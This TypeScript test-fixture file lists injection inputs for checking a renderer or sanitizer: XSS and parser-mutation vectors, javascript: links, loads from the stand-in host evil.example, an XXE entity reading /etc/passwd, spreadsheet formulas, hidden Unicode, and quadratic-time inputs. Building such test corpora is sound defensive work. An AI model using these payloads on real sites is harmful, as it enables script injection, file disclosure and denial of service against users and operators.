/**
 * What the known corpora leave out: each line is one trick, tried as body, author, page, query and reason. What would
 * run says so in `window.ran`; what would load asks `evil.example`.
 */
export const ownTexts: string[] = [
  // Text that runs or loads, in every place where it might be pasted unescaped.
  '<script>window.ran=1</script>',
  '"><script src=https://evil.example/a.js></script>',
  `'"--></style></script><svg onload=window.ran=1>`,
  '</textarea><img src=https://evil.example/a.png onerror=window.ran=1>',
  '</title></head><body onload=window.ran=1><style>*{display:none}</style>',
  '" autofocus onfocus=window.ran=1 style="position:fixed;inset:0',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/a.css><iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<form action=https://evil.example/><button formaction=javascript:window.ran=1>Envoyer</button></form>',
  '{"@context":"</script><script>window.ran=1</script>"}',
  // Documents of another kind.
  ']]><script xmlns="http://www.w3.org/1999/xhtml">window.ran=1</script><![CDATA[',
  '<?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '--- \ntitle: autre\n---\n\n{% include "x" %}{{ 7*7 }}',
  'BEGIN:VEVENT\nATTACH:https://evil.example/\nEND:VEVENT',
  '=HYPERLINK("https://evil.example/","ici")',
  'Une ligne\n\n</content></entry><entry><title>Autre</title></entry>',
  '{"level":"info","what":"request"}\n{"level":"error"}',
  // Links that lie, and Markdown that is taken for another one.
  '[mots](javascript:window.ran=1) [mots](&#106;avascript:window.ran=1) [mots](java&Tab;script:window.ran=1)',
  '[mots](<data:text/html,<script>opener.ran=1</script>>) ![](https://evil.example/pixel.png)',
  '[mots](https://a.example/"onmouseover="window.ran=1) <https://a.example/"onclick=window.ran=1>',
  '[mots][x]\n\n[x]: javascript:window.ran=1 "titre"',
  '![a](x"onerror="window.ran=1)\n\n[![](https://evil.example/a.png)](vbscript:x)',
  '```"><script>window.ran=1</script>\ncode\n```\n\n`</code><script>window.ran=1</script>`',
  '| a | b |\n|---|---|\n| <img src=x onerror=window.ran=1> | </td></table><script>window.ran=1</script> |',
  // Mutation: harmless to one parser, a script to the next that reads its output.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.ran=1 src=1>">',
  '<a href="https://a.example/&#x0A;&#x22;&#x3E;&#x3C;script&#x3E;window.ran=1&#x3C;/script&#x3E;">x</a>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x onerror=window.ran=1 src>">',
  // What is not seen, or seen in another order.
  'Le code est \u202e1234\u202c et \u2066caché\u2069 ici',
  '\u202e\u202e\u202e\u2066\u2067\u2068 jamais refermé',
  'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u034fh\u061ci\u180ej',
  'java\u200bscript:window.ran=1 [x](java\u00adscript:window.ran=1)',
  'z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324'.repeat(60),
  '\u{e0001}\u{e0020}\u{e007f}\u{1f3f4}\u{e0067}\u{e007f}\ufffe\u{1fffe}',
  '\ufdfd'.repeat(40),
  // Deep nesting, and runs whose time grows with their square.
  `${'> '.repeat(24)}fond`,
  `${'- '.repeat(24)}fond`,
  Array.from({ length: 100 }, (_, depth) => `${'  '.repeat(depth)}- point`).join('\n'),
  `${'['.repeat(1_400)}a${']'.repeat(1_400)}`,
  `${'![a]('.repeat(900)}`,
  `${'*a **b '.repeat(800)}`,
  `${'_'.repeat(2_900)}a`,
  `${'<a '.repeat(900)}${'>'.repeat(900)}`,
  `${'a\n'.repeat(3_000)}`,
  `${'~~a~ '.repeat(700)}`,
  `${'`a``b```c '.repeat(400)}`,
  `${'&#x3c;'.repeat(1_400)}`,
]
